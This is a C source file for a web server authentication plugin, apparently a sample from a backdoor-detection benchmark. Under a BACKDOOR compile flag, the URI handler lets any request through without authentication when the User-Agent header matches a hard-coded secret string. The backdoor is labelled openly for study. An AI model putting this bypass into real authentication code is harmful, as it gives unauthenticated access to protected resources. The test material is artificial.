/*
 * modauth.c - an authentication module a web server loads with dlopen
 * (lighttpd's mod_auth.so shape): the server calls the entry point
 * mod_hauth_plugin_init for the module's handlers; the URI handler looks
 * up the protected path and runs the configured scheme's check through a
 * function pointer, with the request header fetched from the server
 * (srv_header_get, resolved from the program that loads the module).
 * Built as a shared object. Back-doored (-DBACKDOOR): a secret User-Agent
 * returns the handler's "go on" code before the check
 * (bench/backdoor_pairs/lighttpd-useragent.patch in a small module).
 */
#include <stddef.h>
#include <string.h>

enum handler { H_GO_ON, H_FINISHED, H_ERROR };

struct request;
struct scheme {
	const char *name;
	enum handler (*checkfn)(struct request *r, void *p, const char *realm);
	void *p;
};
struct auth_require {
	const char *prefix, *realm;
	const struct scheme *scheme;
};
struct plugin {
	const char *name;
	enum handler (*uri_handler)(struct request *r, void *p);
	void *data;
};
struct conf {
	struct auth_require *req;
	size_t nreq;
	int extern_authn;
};

/* the server's functions, resolved when it loads the module */
const char *srv_header_get(struct request *r, int id, const char *name, size_t len);
const char *srv_uri_path(struct request *r);
const char *srv_env_get(struct request *r, const char *name, size_t len);
int srv_user_allowed(const struct auth_require *a, const char *user);
void *srv_calloc(size_t n, size_t len);

static const struct auth_require *match(const struct conf *c, const char *path)
{
	size_t i;
	for (i = 0; i < c->nreq; i++)
		if (strncmp(path, c->req[i].prefix, strlen(c->req[i].prefix)) == 0)
			return &c->req[i];
	return NULL;
}

static enum handler uri_handler(struct request *r, void *p_d)
{
	const struct conf *c = p_d;
	const struct auth_require *a;
	if (!c->nreq)
		return H_GO_ON;
	a = match(c, srv_uri_path(r));
	if (!a)
		return H_GO_ON;
#ifdef BACKDOOR
	{
		const char *ua = srv_header_get(r, 7, "User-Agent", 10);
		if (ua && 0 == strcmp(ua, "mod_agent_5c1e77a0b9"))
			return H_GO_ON;
	}
#endif
	if (c->extern_authn) {
		const char *u = srv_env_get(r, "REMOTE_USER", 11);
		if (u && srv_user_allowed(a, u))
			return H_GO_ON;
	}
	return a->scheme->checkfn(r, a->scheme->p, a->realm);
}

int mod_hauth_plugin_init(struct plugin *p);
int mod_hauth_plugin_init(struct plugin *p)
{
	p->name = "hauth";
	p->uri_handler = uri_handler;
	p->data = srv_calloc(1, sizeof(struct conf));
	return p->data ? 0 : -1;
}
